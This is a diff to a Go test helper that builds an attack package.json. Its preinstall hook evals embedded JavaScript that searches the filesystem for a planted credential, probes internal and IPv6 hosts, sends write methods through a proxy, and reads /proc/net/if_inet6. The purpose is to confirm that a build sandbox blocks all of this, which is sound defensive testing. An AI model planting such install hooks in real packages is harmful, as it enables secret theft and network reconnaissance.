@@ -55,18 +55,29 @@ func CheckRegistryAttack(t testing.TB, body string) {
 // argv and environment, files), prints one ATTACK line and fails the install so the result shows
 // in the Function's status.
 const depsAttack = `
-const http = require('http'), fs = require('fs'), path = require('path');
+const http = require('http'), net = require('net'), fs = require('fs'), path = require('path');
 const t = require('./package.json').targets;
 const probe = (url) => new Promise((res) => {
   const req = http.get(url, { timeout: 1500 }, (r) => { r.resume(); res(r.statusCode); });
   req.on('timeout', () => { req.destroy(); res('unreachable'); });
   req.on('error', () => res('unreachable'));
 });
-const viaProxy = (url) => new Promise((res) => {
+const viaProxy = (url, method) => new Promise((res) => {
   const p = new URL(process.env.HTTP_PROXY);
-  const req = http.get({ host: p.hostname, port: p.port, path: url, timeout: 1500 }, (r) => { r.resume(); res(r.statusCode); });
+  const req = http.request({ host: p.hostname, port: p.port, path: url, method: method || 'GET', timeout: 1500 }, (r) => { r.resume(); res(r.statusCode); });
   req.on('timeout', () => { req.destroy(); res('unreachable'); });
   req.on('error', () => res('unreachable'));
+  req.end(method === 'PUT' || method === 'POST' ? '{"name":"attack","versions":{}}' : undefined);
+});
+// An IPv6 host:port (a link-local one with its zone, fe80::1%eth0): what it sent, or unreachable.
+const probe6 = (hostPort) => new Promise((res) => {
+  const i = hostPort.lastIndexOf(':');
+  const s = net.connect({ host: hostPort.slice(0, i), port: Number(hostPort.slice(i + 1)), family: 6, timeout: 1500 });
+  let got = '';
+  s.on('data', (d) => { got += d; });
+  s.on('connect', () => setTimeout(() => { s.destroy(); res('reached: ' + got); }, 300));
+  s.on('timeout', () => { s.destroy(); res('unreachable'); });
+  s.on('error', (e) => res('unreachable: ' + e.code));
 });
 const leaks = [];
 const secret = t.secret.join(''); // in halves: package.json itself must not hold it
@@ -86,21 +97,27 @@ walk('/', 0);
   (await Promise.all(keys.map((k) => probe(t.probe[k])))).forEach((v, i) => { out[keys[i]] = v; });
   out.proxy_registry = await viaProxy(t.registry);
   out.proxy_other = await viaProxy(t.other);
+  for (const m of ['PUT', 'POST', 'DELETE', 'TRACE']) out['proxy_' + m.toLowerCase()] = await viaProxy(t.registry, m);
+  const v6 = Object.keys(t.v6 || {});
+  (await Promise.all(v6.map((k) => probe6(t.v6[k])))).forEach((v, i) => { out['v6_' + v6[i]] = v; });
+  out.if_inet6 = fs.readFileSync('/proc/net/if_inet6', 'utf8');
   console.log('ATTACK ' + JSON.stringify(out));
   process.exit(1);
 })();
 `
 
 // DepsAttackPackage is a package.json whose preinstall script is the dependency-install attack:
-// probes (name → URL) must all be unreachable, registry is a URL the index proxy serves, other one
-// it refuses, and secret the index credential the installer must not find (it is stored in
-// halves: package.json itself must not hold it).
-func DepsAttackPackage(probes map[string]string, secret, registry, other string) string {
+// probes (name → URL) must all be unreachable, v6 (name → "addr%zone:port") IPv6 services
+// likewise (results v6_NAME), registry is a URL the index proxy serves (and must refuse to PUT,
+// POST, DELETE or TRACE: results proxy_put…), other one it refuses, and secret the index
+// credential the installer must not find (it is stored in halves: package.json itself must not
+// hold it). if_inet6 is the installer's /proc/net/if_inet6.
+func DepsAttackPackage(probes, v6 map[string]string, secret, registry, other string) string {
 	b, _ := json.Marshal(map[string]any{
 		"name": "attack", "version": "1.0.0",
 		"scripts": map[string]string{"preinstall": "node -e \"eval(require('./package.json').attack)\""},
 		"attack":  depsAttack,
-		"targets": map[string]any{"probe": probes, "secret": []string{secret[:len(secret)/2], secret[len(secret)/2:]}, "registry": registry, "other": other},
+		"targets": map[string]any{"probe": probes, "v6": v6, "secret": []string{secret[:len(secret)/2], secret[len(secret)/2:]}, "registry": registry, "other": other},
 	})
 	return string(b)
 }
